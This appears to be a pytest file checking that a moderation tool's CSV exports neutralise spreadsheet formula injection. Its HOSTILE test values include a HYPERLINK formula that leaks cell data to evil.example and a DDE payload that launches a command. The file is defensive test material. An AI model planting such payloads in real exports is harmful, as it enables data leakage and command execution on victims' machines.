"""CSV exports open in spreadsheets: a text cell that would start a formula (a client id of
``=HYPERLINK(…)``) gets a single quote in front, as OWASP advises ("CSV Injection"), in the
decision export, a re-score run's export and the search CSV; numbers stay numbers."""

from __future__ import annotations

import copy
import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml
from click.testing import CliRunner

from decisionlog import DecisionRecord, DecisionStore, PolicyLog
from moderation import EncoderSpec, Moderator
from moderation.cli import main
from tests.decisionlog.conftest import put
from tests.fakes import HAND_POLICY, RED, TINY_ARCH, image_bytes

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
NEUTRALISED = ["'" + h for h in HOSTILE]
PLAIN = ["upload-7", "a=b", "", "'quoted"]


@pytest.mark.parametrize("cell, safe", [*zip(HOSTILE, NEUTRALISED, strict=True),
                                        *((p, p) for p in PLAIN), (-0.25, -0.25), (3, 3),
                                        (None, None)])
def test_spreadsheet_safe(cell: Any, safe: Any) -> None:
    from decisionlog.records import spreadsheet_safe

    assert spreadsheet_safe(cell) == safe


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def hostile_log(tmp_path: Path) -> tuple[str, list[str]]:
    """A SQLite log whose client ids would be formulas: its URL and the decision ids."""
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    vectors = [np.eye(1, 16, k, dtype=np.float32) for k in range(len(HOSTILE + PLAIN))]
    ids = put(DecisionStore(url), vectors, client_ids=HOSTILE + PLAIN, action="block",
              triggered=["weapons"])
    return url, ids


def test_decisions_export_csv_neutralises_formulas(hostile_log: tuple[str, list[str]]) -> None:
    url, _ = hostile_log
    result = CliRunner().invoke(main, ["decisions", "export", "--format", "csv",
                                       "--database-url", url])
    assert result.exit_code == 0, result.output
    exported = rows(result.stdout)
    assert [r["client_id"] for r in exported] == NEUTRALISED + PLAIN
    assert {r["latency_ms"] for r in exported} == {"1.0"}  # numbers untouched
    assert all(r["categories"].startswith("{") for r in exported)


def test_search_csv_neutralises_formulas(hostile_log: tuple[str, list[str]]) -> None:
    url, ids = hostile_log
    result = CliRunner().invoke(main, ["decisions", "search", "--like", ids[-1], "--format",
                                       "csv", "--database-url", url])
    assert result.exit_code == 0, result.output
    found = {r["client_id"] for r in rows(result.stdout)}
    assert found == set(NEUTRALISED + PLAIN[:-1])  # the query itself is left out


def test_rescore_export_csv_neutralises_formulas(tiny_arch_file: Path, tmp_path: Path) -> None:
    data = copy.deepcopy(HAND_POLICY)
    data["model"] = {"name": TINY_ARCH, "pretrained": "none", "config": str(tiny_arch_file)}
    policy = tmp_path / "policy.yaml"
    policy.write_text(yaml.safe_dump(data, sort_keys=False))
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    moderator = Moderator.from_policy(
        policy, EncoderSpec(random_weights=True, cache_dir=tmp_path / "cache"))
    [result] = moderator.moderate([image_bytes(RED)])
    record = DecisionRecord.from_result(result, image_sha256="0" * 64, image_size=1,
                                        latency_ms=1.0)
    DecisionStore(url).add_many([record.model_copy(update={"client_id": HOSTILE[0]})])
    PolicyLog(url).activate(version=moderator.policy.version, name="hand", source=policy.name,
                            text=policy.read_text())
    runner = CliRunner()
    done = runner.invoke(main, ["decisions", "rescore", "--policy", str(policy), "--since",
                                "1h", "--random-weights", "--database-url", url])
    assert done.exit_code == 0, done.output
    run_id = done.output.split("re-score run ")[1].split(":")[0]
    exported = runner.invoke(main, ["decisions", "export", "--rescore", run_id, "--format",
                                    "csv", "--database-url", url])
    assert exported.exit_code == 0, exported.output
    assert [r["client_id"] for r in rows(exported.stdout)] == [NEUTRALISED[0]]
